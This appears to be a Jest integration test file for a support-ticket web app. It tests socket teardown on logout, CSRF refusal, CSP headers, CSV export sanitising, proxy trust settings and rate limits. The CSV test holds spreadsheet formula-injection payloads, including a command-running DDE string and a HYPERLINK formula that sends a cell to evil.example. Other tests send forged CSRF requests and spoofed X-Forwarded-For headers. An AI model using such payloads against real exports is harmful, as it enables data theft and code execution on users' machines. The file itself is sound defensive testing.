import { randomBytes } from 'node:crypto';
import { parse as parseCsv } from 'csv-parse/sync';
import { io as connect, type Socket } from 'socket.io-client';
import request from 'supertest';
import { loadConfig } from '../../core/config';
import { AGENTS_NAMESPACE } from '../../core/notifier';
import { startApi } from '../../server/api';
import { createUser } from '../../server/services/auth.service';
import { doubleCharge, PNG_BYTES, signedInClient, startHarness, TEST_PASSWORD, type Harness, type SignedInClient } from '../support/harness';
import { waitFor } from '../support/wait';

let h: Harness;
beforeAll(async () => {
  h = await startHarness();
});
afterAll(async () => {
  await h?.close();
});

const report = async (patch: Record<string, unknown> = {}) =>
  (await h.http().post('/api/tickets').send({ ...doubleCharge, ...patch }).expect(201)).body as { id: string; reference: string };

/** A socket to any API process of the harness; resolves once connected, rejects if refused. */
function socketTo(url: string, cookie: string, opened: Socket[]): Promise<Socket> {
  const socket = connect(`${url}${AGENTS_NAMESPACE}`, { transports: ['websocket'], reconnection: false, extraHeaders: { cookie } });
  opened.push(socket);
  return new Promise((resolve, reject) => {
    socket.once('connect', () => resolve(socket));
    socket.once('connect_error', reject);
  });
}
const disconnection = (socket: Socket) => new Promise<string>((resolve) => socket.once('disconnect', (reason) => resolve(reason)));

describe('agent sockets end with the session', () => {
  // A second API process on the same Redis and database: sockets there must close too.
  let other: Awaited<ReturnType<typeof startApi>>;
  const opened: Socket[] = [];
  beforeAll(async () => {
    other = await startApi(h.ctx, 0);
  });
  afterAll(async () => {
    opened.forEach((s) => s.disconnect());
    await other?.close();
  });

  it('when an agent signs out, their sockets on every API process close, and the old cookie cannot reconnect', async () => {
    const agent = await h.signIn('agent', 'Leaving Agent');
    const here = await socketTo(h.url, agent.cookie, opened);
    const there = await socketTo(other.url, agent.cookie, opened);
    const heard: string[] = [];
    there.on('ticket.created', (n) => heard.push(n.ticket.customerName));
    await report({ customerName: 'Before Logout', customerEmail: 'before.logout@example.fr' });
    await waitFor(() => heard.includes('Before Logout'), 5000, 'the socket on the other process hears the queue');

    const closed = [disconnection(here), disconnection(there)];
    await agent.post('/api/auth/logout').expect(204);
    expect(await Promise.all(closed)).toEqual(['io server disconnect', 'io server disconnect']);

    await expect(socketTo(h.url, agent.cookie, opened)).rejects.toThrow(/unauthorized/);
    await expect(socketTo(other.url, agent.cookie, opened)).rejects.toThrow(/unauthorized/);
  });

  it("signing out closes only that session's sockets, not the same agent's other sign-ins", async () => {
    const laptop = await h.signIn('agent', 'Two Desks Agent');
    const phone = await h.signIn('agent', 'Two Desks Agent');
    const onLaptop = await socketTo(h.url, laptop.cookie, opened);
    const onPhone = await socketTo(other.url, phone.cookie, opened);
    const closed = disconnection(onLaptop);
    await laptop.post('/api/auth/logout').expect(204);
    await closed;
    const heard: string[] = [];
    onPhone.on('ticket.created', (n) => heard.push(n.ticket.customerName));
    await report({ customerName: 'Still Heard', customerEmail: 'still.heard@example.fr' });
    await waitFor(() => heard.includes('Still Heard'), 5000, 'the other session still hears the queue');
    expect(onPhone.connected).toBe(true);
  });

  it('when an admin disables an agent, all their sockets close at once and no new one is accepted', async () => {
    const admin = await h.signIn('admin', 'Socket Admin');
    const agent = await h.signIn('agent', 'Disabled Agent');
    const sockets = [await socketTo(h.url, agent.cookie, opened), await socketTo(other.url, agent.cookie, opened)];
    const heardAfter: string[] = [];
    sockets.forEach((s) => s.on('ticket.created', (n) => heardAfter.push(n.ticket.customerName)));

    const closed = sockets.map(disconnection);
    await admin.patch(`/api/users/${agent.user.id}`, { disabled: true }).expect(200);
    expect(await Promise.all(closed)).toEqual(['io server disconnect', 'io server disconnect']);

    await report({ customerName: 'After Disable', customerEmail: 'after.disable@example.fr', amount: '123.45' });
    await expect(socketTo(h.url, agent.cookie, opened)).rejects.toThrow(/unauthorized/);
    expect(heardAfter).not.toContain('After Disable');
  });

  it('when an admin resets a password, the sockets opened with the old sessions close', async () => {
    const admin = await h.signIn('admin', 'Socket Admin');
    const agent = await h.signIn('agent', 'Reset Agent');
    const socket = await socketTo(other.url, agent.cookie, opened);
    const closed = disconnection(socket);
    await admin.patch(`/api/users/${agent.user.id}`, { password: 'a brand new passphrase' }).expect(200);
    expect(await closed).toBe('io server disconnect');
    await expect(socketTo(h.url, agent.cookie, opened)).rejects.toThrow(/unauthorized/);
  });
});

describe('the queue admin (/admin/queues) and CSRF', () => {
  it('refuses writes without the CSRF token (403 JSON), still serves reads, and its own page hands the token to its UI', async () => {
    const admin = await h.signIn('admin', 'Queue Admin');
    const queue = h.ctx.dispatcher.queue('rollups');

    // What a cross-site form can do: send the cookie, nothing else.
    for (const forged of [
      request(h.url).put('/admin/queues/api/queues/rollups/pause').set('Cookie', admin.cookie),
      request(h.url).put('/admin/queues/api/queues/rollups/clean/completed').set('Cookie', admin.cookie),
      request(h.url).post('/admin/queues/api/queues/rollups/add').set('Cookie', admin.cookie).send({ name: 'forged', data: {} }),
      request(h.url).put('/admin/queues/api/queues/rollups/pause').set('Cookie', admin.cookie).set('X-XSRF-TOKEN', 'guessed'),
    ]) {
      const res = await forged.expect(403);
      expect(res.body).toEqual({ error: { code: 'csrf_failed', message: expect.any(String), details: null } });
    }
    expect(await queue.isPaused()).toBe(false);
    expect(await queue.getWaitingCount()).toBe(0);

    // Reads: the page and the board's API.
    const page = await request(h.url).get('/admin/queues').set('Cookie', admin.cookie).set('Accept', 'text/html').expect(200);
    expect(page.text).toContain('Guichet queues');
    const xsrf = (page.headers['set-cookie'] as unknown as string[]).find((c) => c.startsWith('XSRF-TOKEN='))!;
    expect(xsrf).toMatch(/Path=\/admin\/queues/);
    expect(xsrf).toMatch(/SameSite=Strict/);
    const token = decodeURIComponent(xsrf.split(';')[0].slice('XSRF-TOKEN='.length));
    expect(token).toBe(admin.csrfToken);
    const queues = await request(h.url).get('/admin/queues/api/queues').set('Cookie', admin.cookie).expect(200);
    expect(queues.body.queues.map((q: { name: string }) => q.name)).toContain('rollups');

    // What the board's UI does (axios echoes the cookie in X-XSRF-TOKEN), and what our own header does.
    await request(h.url).put('/admin/queues/api/queues/rollups/pause').set('Cookie', admin.cookie).set('X-XSRF-TOKEN', token).expect(200);
    expect(await queue.isPaused()).toBe(true);
    await request(h.url).put('/admin/queues/api/queues/rollups/resume').set('Cookie', admin.cookie).set('X-CSRF-Token', admin.csrfToken).expect(200);
    expect(await queue.isPaused()).toBe(false);
  });

  it('an agent is still refused, token or not', async () => {
    const agent = await h.signIn('agent', 'Curious Agent');
    const res = await request(h.url).put('/admin/queues/api/queues/rollups/pause').set('Cookie', agent.cookie).set('X-CSRF-Token', agent.csrfToken).expect(403);
    expect(res.body.error.code).toBe('forbidden');
  });
});

describe('security headers', () => {
  const expectCommonHeaders = (res: request.Response) => {
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['referrer-policy']).toBe('no-referrer');
    expect(res.headers).not.toHaveProperty('x-powered-by');
    const csp = res.headers['content-security-policy'] as string;
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("script-src-attr 'none'");
    expect(csp).toContain("default-src 'self'");
    expect(csp.split(';').find((d) => d.trim().startsWith('script-src '))).not.toContain('unsafe');
    return csp;
  };

  it('on an API response, an error, the health check and the web app page', async () => {
    expectCommonHeaders(await h.http().get('/api/auth/me').expect(200));
    const error = await h.http().get('/api/no-such-route').expect(404);
    expectCommonHeaders(error);
    expect(error.body.error.code).toBe('not_found');
    expectCommonHeaders(await h.http().post('/api/tickets').send('{not json').set('Content-Type', 'application/json').expect(400));
    expectCommonHeaders(await h.http().get('/healthz'));

    const page = await h.http().get('/agent').expect(200);
    expect(page.headers['content-type']).toMatch(/text\/html/);
    const csp = expectCommonHeaders(page);
    expect(csp).not.toContain('unsafe-inline');
    // The page itself has no inline script for the policy to block.
    expect(page.text).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>/);
    expectCommonHeaders(await h.http().get('/assets/nothing-here.js').expect(404));
  });

  it("the queue board's page may use inline styles (bull-board does), never inline scripts", async () => {
    const admin = await h.signIn('admin', 'Queue Admin');
    const page = await request(h.url).get('/admin/queues').set('Cookie', admin.cookie).set('Accept', 'text/html').expect(200);
    const csp = expectCommonHeaders(page);
    expect(csp).toMatch(/style-src 'self' 'unsafe-inline'/);
  });
});

describe('CSV exports', () => {
  it('neutralise cells a spreadsheet would run as formulas; numbers stay numbers', async () => {
    const name = "=cmd|' /C calc'!A0";
    const email = `formula.${randomBytes(3).toString('hex')}@guichet.test`;
    await createUser(h.ctx, { email, name, role: 'agent', password: TEST_PASSWORD });
    const login = await h.http().post('/api/auth/login').send({ email, password: TEST_PASSWORD }).expect(200);
    const agent = signedInClient(h.url, (login.headers['set-cookie'] as unknown as string[])[0].split(';')[0], login.body.csrfToken, login.body.user);
    const t = await report({ customerName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', customerEmail: 'formula@example.fr' });
    await waitFor(async () => (await h.ctx.db.repos.tickets.findById(t.id))?.triagedAt, 5000, 'triage'); // it changes the version
    const version = (await agent.get(`/api/tickets/${t.id}`).expect(200)).body.version;
    await agent.post(`/api/tickets/${t.id}/claim`, { version }).expect(200);

    const manager: SignedInClient = await h.signIn('manager', 'Csv Manager');
    const csv = await manager.get('/api/analytics/sla?groupBy=agent&source=tickets&format=csv').expect(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const rows: string[][] = parseCsv(csv.text, { bom: true });
    const row = rows.find((r) => r[0] === agent.user.id)!;
    expect(row[1]).toBe(`'${name}`);
    expect(row[2]).toBe('1'); // created: a number, untouched
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('uploaded file names', () => {
  it('keep their UTF-8: accents and emoji as the customer named the file', async () => {
    const res = await h
      .http()
      .post('/api/tickets')
      .field('type', 'double_charge')
      .field('customerName', 'Zoé Unicode')
      .field('customerEmail', 'zoe.unicode@example.fr')
      .field('orderNumber', 'SFX-UTF8')
      .field('paymentTime', '2026-11-20T14:32:00+01:00')
      .field('amount', '59,90')
      .field('cardType', 'visa')
      .attach('evidence', PNG_BYTES, { filename: 'relevé 📄.png', contentType: 'image/png' })
      .expect(201);
    const files = await h.ctx.db.repos.files.listForTicket(res.body.id);
    expect(files.map((f) => f.originalName)).toEqual(['relevé 📄.png']);
  });
});

describe('TRUST_PROXY', () => {
  const base = { APP_SECRET: 'x'.repeat(32), DATA_DIR: '/tmp' };
  it('is off by default, takes a hop count or addresses, and refuses what would trust any client', () => {
    expect(loadConfig(base).TRUST_PROXY).toBe(false);
    expect(loadConfig({ ...base, TRUST_PROXY: '1' }).TRUST_PROXY).toBe(1);
    expect(loadConfig({ ...base, TRUST_PROXY: 'loopback, 10.0.0.0/8, 2001:db8::1' }).TRUST_PROXY).toEqual(['loopback', '10.0.0.0/8', '2001:db8::1']);
    expect(() => loadConfig({ ...base, TRUST_PROXY: 'true' })).toThrow(/TRUST_PROXY: true/);
    expect(() => loadConfig({ ...base, TRUST_PROXY: 'my-proxy' })).toThrow(/TRUST_PROXY: my-proxy/);
    expect(() => loadConfig({ ...base, TRUST_PROXY: '10.0.0.0/33' })).toThrow(/TRUST_PROXY/);
    expect(() => loadConfig({ ...base, INTAKE_RATE_PER_IP: '0' })).toThrow(/INTAKE_RATE_PER_IP/);
  });
});

/** Each describe below runs its own server with low limits (the shared one has them out of the way). */
describe('intake limits per client address', () => {
  let lh: Harness;
  let other: Awaited<ReturnType<typeof startApi>>;
  beforeAll(async () => {
    lh = await startHarness({ workers: false, env: { INTAKE_RATE_PER_IP: '4', INTAKE_RATE_IP_WINDOW_MS: '60000', INTAKE_RATE_PER_EMAIL: '100' } });
    other = await startApi(lh.ctx, 0); // a second API process: the count is shared through Redis
  });
  afterAll(async () => {
    await other?.close();
    await lh?.close();
  });
  const send = (url: string, i: number, headers: Record<string, string> = {}) =>
    request(url).post('/api/tickets').set(headers).send({ ...doubleCharge, customerEmail: `ip${i}@example.fr`, orderNumber: `SFX-IP${i}` });

  it('answers 429 with Retry-After past the limit, across API processes; replays never count; X-Forwarded-For does not escape it', async () => {
    const key = { 'Idempotency-Key': `replayed-${randomBytes(6).toString('hex')}` };
    const first = await send(lh.url, 1, key).expect(201);
    for (let i = 0; i < 6; i++) {
      const replay = await send(i % 2 ? other.url : lh.url, 1, key).expect(201);
      expect(replay.headers['idempotent-replayed']).toBe('true');
      expect(replay.body.id).toBe(first.body.id);
    }
    await send(other.url, 2).expect(201);
    await send(lh.url, 3).expect(201);
    await send(other.url, 4).expect(201); // the fourth report: the limit

    for (const url of [lh.url, other.url]) {
      const refused = await send(url, 5).expect(429);
      expect(refused.body).toEqual({
        error: { code: 'rate_limited', message: expect.stringMatching(/Too many reports from this address/), details: { limit: 4, windowSeconds: 60, retryAfterSeconds: expect.any(Number) } },
      });
      const retryAfter = Number(refused.headers['retry-after']);
      expect(retryAfter).toBeGreaterThan(0);
      expect(retryAfter).toBeLessThanOrEqual(60);
      expect(refused.body.error.details.retryAfterSeconds).toBe(retryAfter);
    }
    // TRUST_PROXY is off: a client's own X-Forwarded-For changes nothing.
    for (const xff of ['203.0.113.9', '198.51.100.7, 127.0.0.1']) await send(lh.url, 6, { 'X-Forwarded-For': xff }).expect(429);
    // A replay is still answered: it creates nothing and e-mails nobody.
    expect((await send(other.url, 1, key).expect(201)).body.id).toBe(first.body.id);
  });
});

describe('intake limits per customer e-mail, behind a trusted proxy', () => {
  let lh: Harness;
  beforeAll(async () => {
    lh = await startHarness({ workers: false, env: { TRUST_PROXY: 'loopback', INTAKE_RATE_PER_IP: '3', INTAKE_RATE_PER_EMAIL: '2', INTAKE_RATE_EMAIL_WINDOW_MS: '3600000' } });
  });
  afterAll(async () => {
    await lh?.close();
  });
  const from = (ip: string, email: string, patch: Record<string, unknown> = {}) =>
    request(lh.url).post('/api/tickets').set('X-Forwarded-For', ip).send({ ...doubleCharge, customerEmail: email, ...patch });

  it('counts accepted reports per address e-mailed, whatever the client address; refused forms do not count', async () => {
    // The proxy on loopback is trusted: each client has its own allowance of 3.
    for (let i = 0; i < 3; i++) await from('203.0.113.1', `client1.${i}@example.fr`).expect(201);
    await from('203.0.113.1', 'client1.extra@example.fr').expect(429);
    await from('203.0.113.2', 'client2@example.fr').expect(201);

    await from('198.51.100.1', 'victim@example.fr', { amount: 'not an amount' }).expect(400); // refused: not counted
    await from('198.51.100.2', 'victim@example.fr').expect(201);
    await from('198.51.100.3', ' Victim@Example.FR ').expect(201);
    const refused = await from('198.51.100.4', 'VICTIM@example.fr').expect(429);
    expect(refused.body.error).toMatchObject({ code: 'rate_limited', message: expect.stringMatching(/this e-mail address/), details: { limit: 2, windowSeconds: 3600 } });
    expect(Number(refused.headers['retry-after'])).toBeGreaterThan(3500);
    await from('198.51.100.4', 'someone.else@example.fr').expect(201);
  });

  it('multipart reports are counted by their e-mail too', async () => {
    const multipart = (ip: string) =>
      request(lh.url)
        .post('/api/tickets')
        .set('X-Forwarded-For', ip)
        .field('type', 'double_charge')
        .field('customerName', 'Form Sender')
        .field('customerEmail', 'form.sender@example.fr')
        .field('orderNumber', 'SFX-FORM')
        .field('paymentTime', '2026-11-20T14:32:00+01:00')
        .field('amount', '59,90')
        .field('cardType', 'visa')
        .attach('evidence', PNG_BYTES, { filename: 'sms.png', contentType: 'image/png' });
    await multipart('192.0.2.1').expect(201);
    await multipart('192.0.2.2').expect(201);
    expect((await multipart('192.0.2.3').expect(429)).body.error.code).toBe('rate_limited');
  });
});
